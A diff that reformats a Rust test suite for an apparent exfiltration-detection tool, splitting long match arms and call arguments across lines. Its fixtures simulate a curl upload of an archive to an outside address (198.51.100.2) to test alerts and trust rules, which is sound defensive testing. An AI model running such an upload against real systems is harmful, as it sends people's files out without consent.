@@ -15,7 +15,11 @@ fn alerts(scene: &Scene) -> Vec<Alert> {
         .into_iter()
         .filter_map(|record| match record.body {
             Body::Alert(alert) => Some(*alert),
-            Body::Signal(_) | Body::Start { .. } | Body::Stop { .. } | Body::Heartbeat { .. } | Body::Gap { .. } => None,
+            Body::Signal(_)
+            | Body::Start { .. }
+            | Body::Stop { .. }
+            | Body::Heartbeat { .. }
+            | Body::Gap { .. } => None,
         })
         .collect()
 }
@@ -166,7 +170,12 @@ fn honest_work_wakes_nobody() {
             scene.send(200, 9, "10.0.0.2:80", 12_000_000, 500_000);
         }),
         ("everything made ready, nothing sent", |scene| {
-            archive_and_send(scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2/"], 300);
+            archive_and_send(
+                scene,
+                "/usr/bin/curl",
+                &["curl", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2/"],
+                300,
+            );
         }),
         ("a push of a repository", |scene| {
             scene.spawn(10, 100, "/usr/bin/git", &["git", "push"]);
@@ -196,7 +205,12 @@ fn a_trust_rule_covers_its_volume_and_no_more() {
         let text = format!("[[trust]]\nname = \"backup\"\ndestinations = [\"198.51.100.0/24\"]\n{cap}");
         let config = Config::parse(&text, "test.toml").unwrap();
         let mut scene = Scene::new();
-        archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+        archive_and_send(
+            &mut scene,
+            "/usr/bin/curl",
+            &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE],
+            12_050_000,
+        );
         scene.stop();
         let opened = run(&scene, config)
             .iter()
